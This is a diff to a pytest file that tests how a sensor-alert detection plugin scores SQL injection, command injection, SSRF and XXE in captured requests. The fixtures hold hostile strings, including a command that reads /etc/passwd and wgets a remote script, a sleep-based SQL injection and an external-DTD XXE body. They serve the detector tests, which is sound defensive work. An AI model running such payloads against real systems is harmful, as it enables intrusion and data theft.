@@ -1,6 +1,7 @@
 """Requests and answers in alerts of sensors: found by what fields are called, in plain however they were captured."""
 
 import base64
+import json
 
 import pytest
 
@@ -30,6 +31,9 @@ PACKET = f"POST /goods HTTP/1.1\r\nHost: shop.example\r\n\r\n{INJECTED}"
         {"请求报文": PACKET},
         {"packet_data": base64.b64encode(PACKET.encode()).decode()},
         {"原始请求": PACKET.replace("\r\n", "\\r\\n")},
+        {"pcap_base64": base64.b64encode(PACKET.encode()).decode()},
+        {"raw": f'date=2026-01-01 attack="SQL" url="/goods?{INJECTED}" action=dropped'},
+        {"message": f"告警 URL=/goods?{INJECTED.strip().replace(' ', '+')} 动作=放行"},
         {"req_header": "Host: shop.example\nX-Api: 1\n\n" + INJECTED},
         {"日志原文": f'198.51.100.9 - - "GET /goods?{INJECTED.strip().replace(" ", "+")} HTTP/1.1" 200 512'},
     ],
@@ -72,6 +76,50 @@ def test_an_answer_gives_an_attack_away(name: str, answer: str, rule: str, sever
 )
 def test_an_ordinary_answer_says_nothing(answer: str):
     assert rules(响应体=answer) == set()
+
+
+REPORT = "select region, sum(amount) from sales where day > '2026-02-01' group by region union all select 1, 2"
+PAGE = "<h2>Disk</h2><pre>df -h; cat /etc/passwd | wc -l; wget -q http://yum.example/check.sh</pre><p>Write it down</p>"
+PREVIEW = f'{{"sql": "{REPORT}"}}'
+SIGN_IN = "/cas/login?service=http%3A%2F%2F10.20.5.22%3A8080%2Foa%2Fcallback%3Furl%3Dhttp%3A%2F%2F10.20.5.22%2Fmain"
+
+
+@pytest.mark.parametrize(
+    "fields",
+    [
+        {"请求体": PREVIEW},
+        {"请求体": json.dumps({"body": {"storage": {"value": PAGE}}})},
+        {"请求方法": "GET", "URL": SIGN_IN},
+    ],
+    ids=["a report", "a page", "a sign-in"],
+)
+def test_what_is_at_home_weighs_little(fields: dict[str, str]):
+    found = PLUGIN.detect(alert(**fields)).signals
+    assert found
+    assert {signal.severity for signal in found} == {Severity.LOW}
+
+
+@pytest.mark.parametrize(
+    "fields",
+    [
+        {"请求体": PREVIEW.replace("select 1, 2", "select 1, sleep(5)")},
+        {"请求体": json.dumps({"cmd": "1; cat /etc/passwd | wc -l; wget -q http://yum.example/check.sh"})},
+        {"请求方法": "GET", "URL": SIGN_IN.replace("/cas/login", "/fetch")},
+    ],
+    ids=["a report that waits", "a command", "a fetch"],
+)
+def test_the_same_elsewhere_weighs_much(fields: dict[str, str]):
+    assert Severity.HIGH in {signal.severity for signal in PLUGIN.detect(alert(**fields)).signals}
+
+
+def test_a_browser_that_says_how_it_asks_attacks_nobody():
+    assert "web:xss" not in rules(请求头="Host: a.example\nX-Requested-With: XMLHttpRequest")
+
+
+@pytest.mark.parametrize(("host", "grave"), [("xml.cxml.org/cXML.dtd", False), ("198.51.100.7/x.dtd", True)])
+def test_a_known_definition_of_documents_is_no_external_entity(host: str, grave: bool):
+    body = f'<?xml version="1.0"?><!DOCTYPE cXML SYSTEM "http://{host}"><cXML><Header/></cXML>'
+    assert ("web:xxe" in rules(请求体=body)) is grave
 
 
 def test_what_a_request_quotes_of_answers_is_no_answer():
